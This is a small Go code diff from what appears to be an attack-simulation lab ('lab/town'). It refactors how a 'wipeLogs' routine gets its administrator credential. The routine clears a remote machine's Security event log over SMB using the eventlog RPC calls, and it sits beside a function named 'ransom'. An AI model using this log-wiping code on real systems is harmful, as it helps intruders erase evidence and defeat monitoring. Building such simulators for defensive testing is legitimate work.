@@ -5,6 +5,7 @@ import (
 	"time"
 
 	"github.com/yagura-project/yagura/event"
+	"github.com/yagura-project/yagura/lab/town/life"
 	"github.com/yagura-project/yagura/lab/town/stage"
 )
 
@@ -32,7 +33,7 @@ func ransom(a *Act) {
 // wipeLogs clears the event logs of another machine, so that nobody sees what was done.
 func wipeLogs(a *Act) {
 	a.hop(func(to *stage.Machine) {
-		a.SMBAs(to, "IPC$", admin, false).Pipe("eventlog").Call("eventlog", "ElfrOpenELW", 7, "log", "Security").Call("eventlog", "ElfrClearELFW", 0).End()
+		a.SMBAs(to, "IPC$", life.Admin, false).Pipe("eventlog").Call("eventlog", "ElfrOpenELW", 7, "log", "Security").Call("eventlog", "ElfrClearELFW", 0).End()
 		a.Enough(100 * time.Millisecond)
 	})
 }
